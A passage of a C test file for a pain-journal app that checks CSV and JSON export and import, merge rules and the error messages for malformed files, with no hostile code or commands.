/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "limber-journal.h"
#include "limber-journal-factors.h"
#include "limber-test-util.h"

/* Export and import of the journal on real SQLite files: what goes out
 * comes back the same, importing twice changes nothing, the newer version
 * of an entry wins, and a bad file is refused whole with the line and
 * field of its first problem. */

#define CSV_HEADER "uuid,day,average,worst,activity,enjoyment,regions,red_flags,note,created,updated\r\n"
#define TRICKY_NOTE "Schulter – besser, \"viel\" besser\nam Abend"

#define UUID_A "3f2b8c1e-4d5a-4b6c-9d7e-8f9a0b1c2d3e"
#define UUID_B "7a1c2d3e-5f60-4718-89ab-cdef01234567"
#define UUID_C "c0ffee00-1234-4abc-8def-0123456789ab"
#define UUID_D "d15ea5e0-aaaa-4bbb-8ccc-dddddddddddd"

/* Pain entries, break events and stretch sessions fill_journal() stores. */
#define N_PAIN    3
#define N_BREAKS  10
#define N_STRETCH 3

typedef struct
{
  char          *dir;
  GDateTime     *now;
  /* Filled by fill_journal() in the tests that want data. */
  LimberJournal *journal;
  /* Stays empty until a test imports into it. */
  LimberJournal *other;
} Fixture;

static LimberJournal *
open_journal (const char *dir,
              const char *name)
{
  g_autofree char *path = g_build_filename (dir, name, "limber", "journal.db", NULL);
  g_autoptr (GError) error = NULL;
  LimberJournal *journal = limber_journal_open (path, &error);

  g_assert_no_error (error);
  g_assert_nonnull (journal);
  return journal;
}

static GDateTime *
time_at (int offset_h,
         int day,
         int hour)
{
  g_autoptr (GTimeZone) zone = g_time_zone_new_offset (offset_h * 3600);

  return g_date_time_new (zone, 2026, 11, day, hour, 0, 0);
}

static void
fixture_set_up (Fixture       *fixture,
                gconstpointer  user_data)
{
  g_autoptr (GError) error = NULL;

  fixture->dir = g_dir_make_tmp ("limber-transfer-XXXXXX", &error);
  g_assert_no_error (error);
  fixture->now = time_at (1, 25, 9);
  fixture->journal = open_journal (fixture->dir, "mine");
  fixture->other = open_journal (fixture->dir, "other");
}

static void
fixture_tear_down (Fixture       *fixture,
                   gconstpointer  user_data)
{
  const char *argv[] = { "rm", "-rf", fixture->dir, NULL };
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;

  g_clear_object (&fixture->journal);
  g_clear_object (&fixture->other);
  g_assert_cmpint (limber_test_run (argv, NULL, &out, &err), ==, 0);
  g_date_time_unref (fixture->now);
  g_free (fixture->dir);
}

static void
save_entry (LimberJournal   *journal,
            LimberPainEntry *entry,
            GDateTime       *when)
{
  g_autoptr (GError) error = NULL;

  limber_journal_save_pain_entry (journal, entry, when, &error);
  g_assert_no_error (error);
}

/* Three entries (one with every optional field unset, one with a note
 * that needs quoting), a break of every kind and outcome, and stretch
 * sessions with and without scores, in two time zones. */
static void
fill_journal (LimberJournal *journal)
{
  static const char *activities[N_STRETCH] = { "wall-angels", "chin-tucks", "doorway-stretch" };
  g_autoptr (LimberPainEntry) tricky = limber_pain_entry_new ("2026-11-20");
  g_autoptr (LimberPainEntry) bare = limber_pain_entry_new ("2026-11-21");
  g_autoptr (LimberPainEntry) west = limber_pain_entry_new ("2026-11-23");
  g_autoptr (GDateTime) tricky_time = time_at (1, 20, 21);
  g_autoptr (GDateTime) bare_time = time_at (1, 21, 21);
  g_autoptr (GDateTime) west_time = time_at (-5, 23, 8);
  g_autoptr (GError) error = NULL;
  gint64 base = g_date_time_to_unix (tricky_time);

  tricky->average = 3;
  tricky->worst = 5;
  tricky->activity = 2;
  tricky->enjoyment = 7;
  tricky->regions = LIMBER_BODY_REGION_NECK | LIMBER_BODY_REGION_LEFT_SHOULDER;
  tricky->red_flags = LIMBER_RED_FLAG_NIGHT_OR_WORSENING;
  limber_pain_entry_set_note (tricky, TRICKY_NOTE);
  save_entry (journal, tricky, tricky_time);

  bare->average = 0;
  save_entry (journal, bare, bare_time);

  west->average = 6;
  west->worst = 9;
  west->activity = 4;
  west->regions = LIMBER_BODY_REGION_HEAD | LIMBER_BODY_REGION_LOWER_BACK;
  west->red_flags = LIMBER_RED_FLAG_CHEST | LIMBER_RED_FLAG_ARM_NUMBNESS;
  limber_pain_entry_set_note (west, "Nacken steif");
  save_entry (journal, west, west_time);

  for (guint i = 0; i < N_BREAKS; i++)
    {
      LimberBreakEvent event = { { 0 } };

      g_strlcpy (event.day, i < 5 ? "2026-11-20" : "2026-11-21", sizeof event.day);
      event.kind = i % 2 ? LIMBER_BREAK_KIND_REST : LIMBER_BREAK_KIND_MICRO;
      event.outcome = i % 5;
      event.due_utc = base + i * 900;
      event.due_offset_s = i == 0 ? -5 * 3600 : 3600;
      event.duration_s = event.kind == LIMBER_BREAK_KIND_REST ? 300 : 20;
      event.end_utc = event.due_utc + event.duration_s;
      event.end_offset_s = event.due_offset_s;
      limber_journal_add_break_event (journal, &event, &error);
      g_assert_no_error (error);
    }

  for (guint i = 0; i < N_STRETCH; i++)
    {
      LimberStretchSession session = { { 0 } };

      g_strlcpy (session.day, "2026-11-22", sizeof session.day);
      session.activity_id = (char *) activities[i];
      session.start_utc = base + 86400 + i * 3600;
      session.start_offset_s = 3600;
      session.end_utc = session.start_utc + 120;
      session.end_offset_s = 3600;
      session.seconds_done = i == 1 ? 45 : 120;
      session.completed = i != 1;
      session.pain_before = i == 0 ? 4 : i == 1 ? LIMBER_PAIN_SCORE_UNSET : 5;
      session.pain_after = i == 0 ? 2 : LIMBER_PAIN_SCORE_UNSET;
      limber_journal_add_stretch_session (journal, &session, &error);
      g_assert_no_error (error);
    }
}

/* Rows of the factor tables fill_factors() stores: an own factor, three
 * days of factors, one day's measures and one change; it renames and
 * retires a built-in each, which updates them. */
#define N_FACTOR_ROWS   6
#define N_FACTOR_UPDATE 2

static LimberFactor *
factor_named (LimberJournal *journal,
              const char    *name)
{
  g_autoptr (GError) error = NULL;
  LimberFactor *factor = limber_journal_find_factor (journal, name, &error);

  g_assert_no_error (error);
  g_assert_nonnull (factor);
  return factor;
}

static void
fill_factors (LimberJournal *journal)
{
  g_autoptr (GDateTime) when = time_at (1, 22, 20);
  g_autoptr (GDateTime) later = time_at (-5, 23, 8);
  g_autoptr (LimberFactor) swimming = NULL;
  g_autoptr (LimberFactor) heat = factor_named (journal, "heat");
  g_autoptr (LimberFactor) yoga = factor_named (journal, "yoga");
  g_autoptr (GPtrArray) days = g_ptr_array_new_with_free_func ((GDestroyNotify) limber_day_factor_free);
  g_autoptr (LimberDayMeasures) measures = limber_day_measures_new ("2026-11-20");
  g_autoptr (LimberLifeChange) change = limber_life_change_new ("2026-11-22", "Neuer Stuhl, höher");
  g_autoptr (GError) error = NULL;
  LimberDayFactor *medication;

  swimming = limber_journal_add_factor (journal, "Swimming", when, &error);
  g_assert_no_error (error);
  g_assert_true (limber_journal_rename_factor (journal, heat->uuid, "Wärmflasche", when, &error));
  g_assert_true (limber_journal_set_factor_retired (journal, yoga->uuid, TRUE, later, &error));
  g_assert_no_error (error);

  g_ptr_array_add (days, limber_day_factor_new ("2026-11-20", heat->uuid));
  medication = limber_day_factor_new ("2026-11-20", LIMBER_FACTOR_PAIN_MEDICATION_UUID);
  medication->medicine = g_strdup ("Ibuprofen 400");
  medication->doses = 2;
  g_ptr_array_add (days, medication);
  g_assert_true (limber_journal_set_day_factors (journal, "2026-11-20", days, when, &error));
  g_assert_no_error (error);
  g_ptr_array_set_size (days, 0);
  g_ptr_array_add (days, limber_day_factor_new ("2026-11-21", swimming->uuid));
  g_assert_true (limber_journal_set_day_factors (journal, "2026-11-21", days, later, &error));
  g_assert_no_error (error);

  measures->sleep_tenths = 65;
  measures->sleep_quality = 4;
  measures->desk_tenths = 90;
  g_assert_true (limber_journal_set_day_measures (journal, measures, when, &error));
  g_assert_no_error (error);
  g_assert_true (limber_journal_add_life_change (journal, change, later, &error));
  g_assert_no_error (error);
}

static char *
export_text (LimberJournal       *journal,
             LimberJournalFormat  format)
{
  g_autoptr (GOutputStream) stream = g_memory_output_stream_new_resizable ();
  g_autoptr (GError) error = NULL;
  g_autoptr (GBytes) bytes = NULL;

  g_assert_true (limber_journal_export (journal, format, stream, &error));
  g_assert_no_error (error);
  g_output_stream_close (stream, NULL, &error);
  g_assert_no_error (error);

  bytes = g_memory_output_stream_steal_as_bytes (G_MEMORY_OUTPUT_STREAM (stream));
  return g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
}

static gboolean
import_text (LimberJournal       *journal,
             LimberJournalFormat  format,
             const char          *text,
             GDateTime           *now,
             LimberImportCounts  *counts,
             GError             **error)
{
  g_autoptr (GBytes) bytes = g_bytes_new (text, strlen (text));

  return limber_journal_import (journal, format, bytes, now, counts, error);
}

static void
assert_counts (const LimberImportCounts *counts,
               guint                     added,
               guint                     updated,
               guint                     unchanged)
{
  g_assert_cmpuint (counts->added, ==, added);
  g_assert_cmpuint (counts->updated, ==, updated);
  g_assert_cmpuint (counts->unchanged, ==, unchanged);
}

static void
assert_rows (LimberJournal *journal,
             gint64         pain,
             gint64         breaks,
             gint64         stretch)
{
  g_autoptr (GError) error = NULL;

  g_assert_cmpint (limber_journal_count (journal, "pain_entry", &error), ==, pain);
  g_assert_cmpint (limber_journal_count (journal, "break_event", &error), ==, breaks);
  g_assert_cmpint (limber_journal_count (journal, "stretch_session", &error), ==, stretch);
  g_assert_no_error (error);
}

static LimberPainEntry *
get_entry (LimberJournal *journal,
           const char    *day)
{
  g_autoptr (GError) error = NULL;
  LimberPainEntry *entry = limber_journal_get_pain_entry (journal, day, &error);

  g_assert_no_error (error);
  return entry;
}

static void
test_csv_format (Fixture       *fixture,
                 gconstpointer  user_data)
{
  g_autoptr (LimberPainEntry) tricky = NULL;
  g_autoptr (LimberPainEntry) bare = NULL;
  g_autoptr (LimberPainEntry) west = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *expected = NULL;

  fill_journal (fixture->journal);
  tricky = get_entry (fixture->journal, "2026-11-20");
  bare = get_entry (fixture->journal, "2026-11-21");
  west = get_entry (fixture->journal, "2026-11-23");

  /* Oldest first, CRLF after every record, the note quoted with its quotes
   * doubled and its line break kept, unset fields empty, local times with
   * the offset they were written in, and no byte order mark. */
  expected = g_strdup_printf (CSV_HEADER
                              "%s,2026-11-20,3,5,2,7,neck;left-shoulder,night-or-worsening,"
                              "\"Schulter – besser, \"\"viel\"\" besser\nam Abend\","
                              "2026-11-20T21:00:00+01:00,2026-11-20T21:00:00+01:00\r\n"
                              "%s,2026-11-21,0,,,,,,,"
                              "2026-11-21T21:00:00+01:00,2026-11-21T21:00:00+01:00\r\n"
                              "%s,2026-11-23,6,9,4,,head;lower-back,chest;arm-numbness,Nacken steif,"
                              "2026-11-23T08:00:00-05:00,2026-11-23T08:00:00-05:00\r\n",
                              tricky->uuid, bare->uuid, west->uuid);
  csv = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_CSV);
  g_assert_cmpstr (csv, ==, expected);
}

static void
test_csv_round_trip (Fixture       *fixture,
                     gconstpointer  user_data)
{
  g_autoptr (LimberPainEntry) original = NULL;
  g_autoptr (LimberPainEntry) copy = NULL;
  g_autoptr (LimberPainEntry) bare = NULL;
  g_autoptr (LimberPainEntry) west = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *first = NULL;
  g_autofree char *second = NULL;
  LimberImportCounts counts;

  fill_journal (fixture->journal);
  first = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_CSV);

  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV, first, fixture->now, &counts, &error));
  g_assert_no_error (error);
  assert_counts (&counts, N_PAIN, 0, 0);
  /* CSV holds the pain entries only. */
  assert_rows (fixture->other, N_PAIN, 0, 0);

  second = export_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV);
  g_assert_cmpstr (second, ==, first);

  original = get_entry (fixture->journal, "2026-11-20");
  copy = get_entry (fixture->other, "2026-11-20");
  g_assert_nonnull (copy);
  g_assert_cmpstr (copy->uuid, ==, original->uuid);
  g_assert_cmpstr (copy->note, ==, TRICKY_NOTE);
  g_assert_cmpuint (copy->regions, ==, LIMBER_BODY_REGION_NECK | LIMBER_BODY_REGION_LEFT_SHOULDER);
  g_assert_cmpuint (copy->red_flags, ==, LIMBER_RED_FLAG_NIGHT_OR_WORSENING);
  g_assert_cmpint (copy->created_utc, ==, original->created_utc);
  g_assert_cmpint (copy->updated_offset_s, ==, 3600);

  bare = get_entry (fixture->other, "2026-11-21");
  g_assert_cmpint (bare->worst, ==, LIMBER_PAIN_SCORE_UNSET);
  g_assert_cmpint (bare->activity, ==, LIMBER_PAIN_SCORE_UNSET);
  g_assert_cmpint (bare->enjoyment, ==, LIMBER_PAIN_SCORE_UNSET);
  g_assert_null (bare->note);

  west = get_entry (fixture->other, "2026-11-23");
  g_assert_cmpint (west->created_offset_s, ==, -5 * 3600);
}

static void
test_json_round_trip (Fixture       *fixture,
                      gconstpointer  user_data)
{
  g_autoptr (LimberPainEntry) copy = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *first = NULL;
  g_autofree char *second = NULL;
  LimberImportCounts counts;

  fill_journal (fixture->journal);
  fill_factors (fixture->journal);
  first = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_JSON);
  g_assert_nonnull (strstr (first, "\"limber-journal\""));
  g_assert_nonnull (strstr (first, "\"Ibuprofen 400\""));

  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON, first, fixture->now, &counts, &error));
  g_assert_no_error (error);
  assert_counts (&counts, N_PAIN + N_BREAKS + N_STRETCH + N_FACTOR_ROWS, N_FACTOR_UPDATE, 0);
  assert_rows (fixture->other, N_PAIN, N_BREAKS, N_STRETCH);
  {
    g_autoptr (GPtrArray) factors = limber_journal_list_factors (fixture->other, TRUE, &error);
    g_autoptr (GPtrArray) days = limber_journal_list_day_factors (fixture->other, NULL, NULL, &error);
    g_autoptr (GPtrArray) measures = limber_journal_list_day_measures (fixture->other, NULL, NULL, &error);
    g_autoptr (GPtrArray) changes = limber_journal_list_life_changes (fixture->other, NULL, NULL, &error);
    g_autoptr (LimberFactor) heat = factor_named (fixture->other, "Wärmflasche");

    g_assert_no_error (error);
    g_assert_cmpuint (factors->len, ==, 10);
    g_assert_cmpuint (days->len, ==, 3);
    g_assert_cmpuint (measures->len, ==, 1);
    g_assert_cmpuint (changes->len, ==, 1);
    g_assert_cmpstr (heat->builtin, ==, "heat");
  }

  second = export_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON);
  g_assert_cmpstr (second, ==, first);

  /* A second time changes nothing and counts only the day rows. */
  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON, first, fixture->now, &counts, &error));
  g_assert_no_error (error);
  assert_counts (&counts, 0, 0, N_PAIN + N_BREAKS + N_STRETCH + N_FACTOR_ROWS - 1);

  copy = get_entry (fixture->other, "2026-11-20");
  g_assert_cmpstr (copy->note, ==, TRICKY_NOTE);
  g_assert_cmpint (copy->enjoyment, ==, 7);
}

/* A factor of the person's own that another journal has under the same
 * name, but a different UUID, is kept beside it with a number. */
static void
test_factor_name_clash (Fixture       *fixture,
                        gconstpointer  user_data)
{
  g_autoptr (LimberFactor) mine = NULL;
  g_autoptr (LimberFactor) theirs = NULL;
  g_autoptr (LimberFactor) renamed = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *text = NULL;
  LimberImportCounts counts;

  mine = limber_journal_add_factor (fixture->journal, "Swimming", fixture->now, &error);
  g_assert_no_error (error);
  theirs = limber_journal_add_factor (fixture->other, "swimming", fixture->now, &error);
  g_assert_no_error (error);

  text = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_JSON);
  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON, text, fixture->now, &counts, &error));
  g_assert_no_error (error);
  assert_counts (&counts, 1, 0, 0);

  renamed = factor_named (fixture->other, "Swimming (2)");
  g_assert_cmpstr (renamed->uuid, ==, mine->uuid);
  g_clear_pointer (&renamed, limber_factor_free);
  renamed = factor_named (fixture->other, "swimming");
  g_assert_cmpstr (renamed->uuid, ==, theirs->uuid);
}

static void
test_reimport_changes_nothing (Fixture       *fixture,
                               gconstpointer  user_data)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *json = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *after = NULL;
  LimberImportCounts counts;

  fill_journal (fixture->journal);
  json = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_JSON);
  csv = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_CSV);

  /* Into the journal it came from. */
  g_assert_true (import_text (fixture->journal, LIMBER_JOURNAL_FORMAT_JSON, json, fixture->now, &counts, &error));
  g_assert_no_error (error);
  assert_counts (&counts, 0, 0, N_PAIN + N_BREAKS + N_STRETCH);
  after = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_JSON);
  g_assert_cmpstr (after, ==, json);
  g_clear_pointer (&after, g_free);

  /* Twice into another one. */
  for (guint round = 0; round < 2; round++)
    {
      g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON, json, fixture->now, &counts, &error));
      g_assert_no_error (error);
      if (round == 0)
        assert_counts (&counts, N_PAIN + N_BREAKS + N_STRETCH, 0, 0);
      else
        assert_counts (&counts, 0, 0, N_PAIN + N_BREAKS + N_STRETCH);
      assert_rows (fixture->other, N_PAIN, N_BREAKS, N_STRETCH);
    }

  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV, csv, fixture->now, &counts, &error));
  g_assert_no_error (error);
  assert_counts (&counts, 0, 0, N_PAIN);
  assert_rows (fixture->other, N_PAIN, N_BREAKS, N_STRETCH);

  after = export_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON);
  g_assert_cmpstr (after, ==, json);
}

static void
import_ok (Fixture                  *fixture,
           const char               *csv,
           const LimberImportCounts *expected)
{
  g_autoptr (GError) error = NULL;
  LimberImportCounts counts;

  g_assert_true (import_text (fixture->journal, LIMBER_JOURNAL_FORMAT_CSV, csv, fixture->now, &counts, &error));
  g_assert_no_error (error);
  assert_counts (&counts, expected->added, expected->updated, expected->unchanged);
}

static void
test_newer_wins (Fixture       *fixture,
                 gconstpointer  user_data)
{
  g_autoptr (LimberPainEntry) before = NULL;
  g_autoptr (LimberPainEntry) entry = NULL;
  g_autoptr (GDateTime) later = time_at (1, 24, 10);
  g_autofree char *csv = NULL;
  const LimberImportCounts one_updated = { 0, 1, 0 };
  const LimberImportCounts one_unchanged = { 0, 0, 1 };
  const LimberImportCounts one_added = { 1, 0, 0 };

  fill_journal (fixture->journal);
  before = get_entry (fixture->journal, "2026-11-20");

  /* The same entry, edited later elsewhere: it replaces the stored one,
   * times and all. */
  csv = g_strdup_printf (CSV_HEADER "%s,2026-11-20,4,6,,,mid-back,,besser,"
                         "2026-11-20T21:00:00+01:00,2026-11-24T10:00:00+01:00\r\n", before->uuid);
  import_ok (fixture, csv, &one_updated);
  entry = get_entry (fixture->journal, "2026-11-20");
  g_assert_cmpstr (entry->uuid, ==, before->uuid);
  g_assert_cmpint (entry->average, ==, 4);
  g_assert_cmpint (entry->worst, ==, 6);
  g_assert_cmpint (entry->activity, ==, LIMBER_PAIN_SCORE_UNSET);
  g_assert_cmpuint (entry->regions, ==, LIMBER_BODY_REGION_MID_BACK);
  g_assert_cmpuint (entry->red_flags, ==, 0);
  g_assert_cmpstr (entry->note, ==, "besser");
  g_assert_cmpint (entry->created_utc, ==, before->created_utc);
  g_assert_cmpint (entry->updated_utc, ==, g_date_time_to_unix (later));
  g_clear_pointer (&entry, limber_pain_entry_free);
  g_clear_pointer (&csv, g_free);

  /* An older version of it is ignored. */
  csv = g_strdup_printf (CSV_HEADER "%s,2026-11-20,8,9,,,,,älter,"
                         "2026-11-20T21:00:00+01:00,2026-11-22T10:00:00+01:00\r\n", before->uuid);
  import_ok (fixture, csv, &one_unchanged);
  entry = get_entry (fixture->journal, "2026-11-20");
  g_assert_cmpint (entry->average, ==, 4);
  g_assert_cmpstr (entry->note, ==, "besser");
  g_clear_pointer (&entry, limber_pain_entry_free);

  /* Another entry for a day that has one: the later one stays. */
  import_ok (fixture, CSV_HEADER UUID_A ",2026-11-21,1,,,,,,von früher,"
             "2026-11-01T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n", &one_unchanged);
  entry = get_entry (fixture->journal, "2026-11-21");
  g_assert_cmpstr (entry->uuid, !=, UUID_A);
  g_assert_cmpint (entry->average, ==, 0);
  g_clear_pointer (&entry, limber_pain_entry_free);

  import_ok (fixture, CSV_HEADER UUID_B ",2026-11-21,7,,,,,,neuer,"
             "2026-11-22T08:00:00+01:00,2026-11-22T08:00:00+01:00\r\n", &one_updated);
  entry = get_entry (fixture->journal, "2026-11-21");
  g_assert_cmpstr (entry->uuid, ==, UUID_B);
  g_assert_cmpint (entry->average, ==, 7);
  g_assert_cmpstr (entry->note, ==, "neuer");
  g_clear_pointer (&entry, limber_pain_entry_free);

  /* A day without an entry gets one. */
  import_ok (fixture, CSV_HEADER UUID_C ",2026-11-22,2,,,,,,,"
             "2026-11-22T08:00:00+01:00,2026-11-22T08:00:00+01:00\r\n", &one_added);
  entry = get_entry (fixture->journal, "2026-11-22");
  g_assert_cmpstr (entry->uuid, ==, UUID_C);

  assert_rows (fixture->journal, N_PAIN + 1, N_BREAKS, N_STRETCH);
}

static void
test_lenient_csv (Fixture       *fixture,
                  gconstpointer  user_data)
{
  /* What a spreadsheet may make of an export: a byte order mark, LF line
   * ends, the columns in another order, CRLF inside a quoted field, and
   * a blank line at the end. */
  const char *csv =
    "\xEF\xBB\xBF" "day,uuid,note,average,worst,activity,enjoyment,regions,red_flags,created,updated\n"
    "2026-11-19," UUID_D ",\"zwei\r\nZeilen\",2,3,,,neck;head,,2026-11-19T20:00:00+01:00,2026-11-19T20:00:00Z\n"
    "\n";
  g_autoptr (LimberPainEntry) entry = NULL;
  const LimberImportCounts one_added = { 1, 0, 0 };

  import_ok (fixture, csv, &one_added);
  entry = get_entry (fixture->journal, "2026-11-19");
  g_assert_nonnull (entry);
  g_assert_cmpstr (entry->uuid, ==, UUID_D);
  g_assert_cmpstr (entry->note, ==, "zwei\r\nZeilen");
  g_assert_cmpint (entry->average, ==, 2);
  g_assert_cmpint (entry->worst, ==, 3);
  g_assert_cmpuint (entry->regions, ==, LIMBER_BODY_REGION_NECK | LIMBER_BODY_REGION_HEAD);
  g_assert_cmpint (entry->created_offset_s, ==, 3600);
  g_assert_cmpint (entry->updated_offset_s, ==, 0);
  g_assert_cmpint (entry->updated_utc - entry->created_utc, ==, 3600);
}

typedef struct
{
  const char *name;
  LimberJournalFormat format;
  const char *text;
  /* Each must be in the message. */
  const char *expected[3];
} BadFile;

#define ROW(uuid, day, average, worst, note) \
  uuid "," day "," average "," worst ",,,,," note ",2026-11-01T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n"

#define JSON_START \
  "{\n" \
  "  \"format\": \"limber-journal\",\n" \
  "  \"version\": 1,\n"

#define JSON_PAIN(uuid, day, average, worst) \
  "    {\"uuid\": \"" uuid "\", \"day\": \"" day "\", \"average\": " average ", \"worst\": " worst ", " \
  "\"activity\": null, \"enjoyment\": null, \"regions\": [\"neck\"], \"red_flags\": [], \"note\": null, " \
  "\"created\": \"2026-11-01T08:00:00+01:00\", \"updated\": \"2026-11-01T08:00:00+01:00\"}"

#define JSON_BREAK(uuid, kind) \
  "    {\"uuid\": \"" uuid "\", \"day\": \"2026-11-01\", \"kind\": \"" kind "\", \"outcome\": \"taken\", " \
  "\"due\": \"2026-11-01T10:00:00+01:00\", \"end\": \"2026-11-01T10:00:20+01:00\", \"duration_s\": 20}"

static char *
long_note_csv (void)
{
  g_autoptr (GString) csv = g_string_new (CSV_HEADER UUID_A ",2026-11-01,2,,,,,,");

  /* 2001 characters, each two bytes. */
  for (guint i = 0; i < LIMBER_PAIN_NOTE_MAX_CHARS + 1; i++)
    g_string_append (csv, "ü");
  g_string_append (csv, ",2026-11-01T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n");
  return g_string_free (g_steal_pointer (&csv), FALSE);
}

static const BadFile bad_files[] = {
  { "score 11 on the third line", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "2", "3", "") ROW (UUID_B, "2026-11-02", "11", "", ""),
    { "line 3", "average", "11" } },
  { "worst below average", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "5", "3", ""),
    { "line 2", "worst", "below" } },
  { "no such date", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-13-40", "2", "", ""),
    { "line 2", "day", "2026-13-40" } },
  { "a day in the future", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-26", "2", "", ""),
    { "line 2", "day", "future" } },
  { "a score in words", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "four", "", ""),
    { "line 2", "average", "four" } },
  { "no average", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "", "", ""),
    { "line 2", "average", NULL } },
  { "an unknown region", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER UUID_A ",2026-11-01,2,,,,neck;elbow,,,2026-11-01T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n",
    { "line 2", "regions", "elbow" } },
  { "an unknown red flag", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER UUID_A ",2026-11-01,2,,,,,chest;hiccups,,2026-11-01T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n",
    { "line 2", "red_flags", "hiccups" } },
  { "a time without a date", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER UUID_A ",2026-11-01,2,,,,,,,yesterday,2026-11-01T08:00:00+01:00\r\n",
    { "line 2", "created", "yesterday" } },
  { "a time without its offset", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER UUID_A ",2026-11-01,2,,,,,,,2026-11-01T08:00:00+01:00,2026-11-01T08:00:00\r\n",
    { "line 2", "updated", NULL } },
  { "no uuid", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW ("", "2026-11-01", "2", "", ""),
    { "line 2", "uuid", NULL } },
  { "a header without enjoyment", LIMBER_JOURNAL_FORMAT_CSV,
    "uuid,day,average,worst,activity,regions,red_flags,note,created,updated\r\n"
    UUID_A ",2026-11-01,2,,,,,,2026-11-01T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n",
    { "line 1", "enjoyment", "missing" } },
  { "an unknown column", LIMBER_JOURNAL_FORMAT_CSV,
    "uuid,day,average,worst,activity,enjoyment,mood,regions,red_flags,note,created,updated\r\n",
    { "line 1", "mood", NULL } },
  { "a short row", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER UUID_A ",2026-11-01,2,,,,,,2026-11-01T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n",
    { "line 2", "10 fields", "11" } },
  { "a quote never closed", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "2", "", "")
    UUID_B ",2026-11-02,2,,,,,,\"not closed,2026-11-01T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n",
    { "line 3", "note", "never closed" } },
  { "a bad row after a note of three lines", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "2", "", "\"eins\r\nzwei\ndrei\"")
    ROW (UUID_B, "2026-11-02", "12", "", ""),
    { "line 5", "average", "12" } },
  { "bytes that are not UTF-8", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "2", "", "") ROW (UUID_B, "2026-11-02", "2", "", "Schulter \xff\xfe"),
    { "line 3", "note", "UTF-8" } },
  { "one uuid twice", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "2", "", "") ROW (UUID_A, "2026-11-02", "2", "", ""),
    { "line 3", "uuid", "line 2" } },
  { "one day twice", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "2", "", "") ROW (UUID_B, "2026-11-01", "2", "", ""),
    { "line 3", "day", "line 2" } },
  { "an empty file", LIMBER_JOURNAL_FORMAT_CSV, "",
    { "line 1", "header", NULL } },
  { "broken JSON", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [\n" JSON_PAIN (UUID_A, "2026-11-01", "2", "3") ",\n  ],\n}\n",
    { "line", "JSON", NULL } },
  { "another format", LIMBER_JOURNAL_FORMAT_JSON,
    "{\n  \"format\": \"something-else\",\n  \"version\": 1\n}\n",
    { "line 1", "format", "something-else" } },
  { "a newer version", LIMBER_JOURNAL_FORMAT_JSON,
    "{\n  \"format\": \"limber-journal\",\n  \"version\": 2\n}\n",
    { "line 1", "version", "newer" } },
  { "no stretch sessions", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [],\n  \"break_events\": []\n}\n",
    { "line 1", "stretch_sessions", "missing" } },
  { "worst below average in the second entry", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START
    "  \"pain_entries\": [\n"
    JSON_PAIN (UUID_A, "2026-11-01", "2", "3") ",\n"
    JSON_PAIN (UUID_B, "2026-11-02", "6", "4") "\n"
    "  ],\n  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
    { "line 6", "worst", NULL } },
  { "a score as text", LIMBER_JOURNAL_FORMAT_JSON,
